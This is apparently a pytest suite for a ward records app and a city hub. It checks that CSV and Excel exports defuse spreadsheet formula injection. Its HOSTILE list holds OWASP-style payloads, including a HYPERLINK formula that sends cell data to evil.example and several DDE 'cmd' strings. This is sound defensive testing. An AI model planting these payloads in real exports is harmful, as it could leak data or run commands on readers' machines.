"""Exports that would attack their reader: text a spreadsheet runs as a formula, planted in real
records, comes out of every export (the ward's ``wardapp export``, the hub's CSV and Excel report,
on screen and at the CLI) as text with a leading quote, and no cell of an Excel file is a
formula. The files are opened as the reader's spreadsheet would: CSV with the csv module, Excel
with openpyxl."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from kernel.spreadsheet import FORMULA_STARTS, cell
from wardapp.dossiers.service import receive_dossier
from wardapp.extensions import db
from wardapp.feedback.service import receive_feedback
from wardapp.sync.records import Dossier, Feedback

from .conftest import PASSWORD, account, intake_data, make_hub

# What OWASP's "CSV Injection" lists: a formula, DDE, arithmetic, @-functions, and a tab or CR
# in front of them (which some spreadsheets skip before looking for the formula).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_cell_quotes_formulas_and_keeps_numbers():
    assert [cell(h) for h in HOSTILE] == ["'" + h for h in HOSTILE]
    assert [cell(v) for v in (-2, -2.5, 0, None, "Nguyễn Văn Đức", "a=b")] == [
        -2,
        -2.5,
        0,
        None,
        "Nguyễn Văn Đức",
        "a=b",
    ]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_csv(text: str, planted: list[str]) -> None:
    """No cell begins as a formula (a number is a number), and each planted text is there,
    quoted."""
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    for h in planted:
        assert "'" + h in cells, repr(h)


def test_ward_export_quotes_hostile_text(app, tmp_path):
    from wardapp.cli import cli

    officer = account("chuyenvien")
    for _ in HOSTILE:
        dossier, _ = receive_dossier(
            intake_data(applicant_name="Nguyễn Văn Đức"), actor=account("letan")
        )
        receive_feedback(
            {
                "channel": "phone",
                "sender_name": "Lê Thị Lan",
                "subject": "Thời hạn",
                "content": "Đề nghị rút ngắn.",
                "regulation": "Khai sinh",
            },
            actor=officer,
        )
    # The intake trims what a person types; a record synced, imported or repaired by hand is
    # not trimmed, so the values are planted as they are.
    for dossier, feedback, h in zip(
        db.session.scalars(sa.select(Dossier)), db.session.scalars(sa.select(Feedback)), HOSTILE
    ):
        dossier.applicant_name = dossier.address = dossier.note = h
        feedback.content = feedback.sender_name = h
    db.session.execute(
        sa.update(Dossier).where(Dossier.code == dossier.code).values(sets_count=-2)
    )  # a negative number stays a number
    db.session.commit()
    for table in ("dossier", "feedback"):
        out = tmp_path / f"{table}.csv"
        result = CliRunner().invoke(
            cli, ["export", table, "--out", str(out), "--instance", app.instance_path]
        )
        assert result.exit_code == 0, result.output
        text = out.read_bytes().decode("utf-8-sig")
        check_csv(text, HOSTILE)
        if table == "dossier":
            rows = list(csv.DictReader(io.StringIO(text, newline="")))
            assert "-2" in [r["sets_count"] for r in rows]


@pytest.fixture
def hostile_hub(tmp_path, hub_database_url):
    """A hub whose wards carry hostile names (a ward's name comes from the published
    reference data, so an admin's slip or a tampered file puts it there)."""
    from city_hub.extensions import db as hub_db
    from city_hub.models import HubUser, Ward

    codes = [str(30280 + i) for i in range(len(HOSTILE))]
    app, _ = make_hub(
        tmp_path / "hub", wards=codes, database_url=hub_database_url, WTF_CSRF_ENABLED=False
    )
    with app.app_context():
        for code, h in zip(codes, HOSTILE):
            hub_db.session.get(Ward, code).name = h
        user = HubUser(username="xem", full_name="Người xem", role="viewer")
        user.set_password(PASSWORD)
        hub_db.session.add(user)
        hub_db.session.commit()
    yield app
    with app.app_context():
        hub_db.session.remove()
        hub_db.engine.dispose()


def check_xlsx(data: bytes, planted: list[str]) -> None:
    """No cell is a formula, the counts are numbers, and each planted text is there, quoted."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XlsxWriter writes a CR as OOXML's escape _x000D_, which Excel reads back and openpyxl not.
    texts = [c.value.replace("_x000D_", "\r") for c in cells if c.data_type == "s"]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    for h in planted:
        assert "'" + h in texts, repr(h)
    assert [c.value for c in cells if c.data_type == "n"], "the counts are numbers"


def test_hub_exports_quote_hostile_ward_names(hostile_hub, tmp_path, monkeypatch):
    from city_hub import cli as hub_cli
    from city_hub.extensions import db as hub_db

    client = hostile_hub.test_client()
    client.post("/auth/login", data={"username": "xem", "password": PASSWORD})
    # December 2024: every unit of the 2020 map still existed (the period's map shows them)
    response = client.get("/reports/export.csv?period=2024-12")
    assert response.status_code == 200
    check_csv(response.get_data().decode("utf-8-sig"), HOSTILE)
    response = client.get("/reports/export.xlsx?period=2024-12")
    assert response.status_code == 200
    check_xlsx(response.get_data(), HOSTILE)
    # The same table from the hub's CLI (whose app's connections are closed here after it).
    instance = hostile_hub.instance_path
    env = {"CITY_HUB_DATABASE_URL": hostile_hub.config["SQLALCHEMY_DATABASE_URI"]}
    opened, real_open = [], hub_cli.open_hub

    def open_hub(path):
        opened.append(real_open(path))
        return opened[-1]

    monkeypatch.setattr(hub_cli, "open_hub", open_hub)
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"report.{fmt}"
        result = CliRunner(env=env).invoke(
            hub_cli.cli,
            [
                "report",
                "--period",
                "2024-12",
                "--format",
                fmt,
                "--out",
                str(out),
                "--instance",
                instance,
            ],
        )
        with opened[-1].app_context():
            hub_db.engine.dispose()
        assert result.exit_code == 0, result.output
        if fmt == "csv":
            check_csv(out.read_bytes().decode("utf-8-sig"), HOSTILE)
        else:
            check_xlsx(out.read_bytes(), HOSTILE)
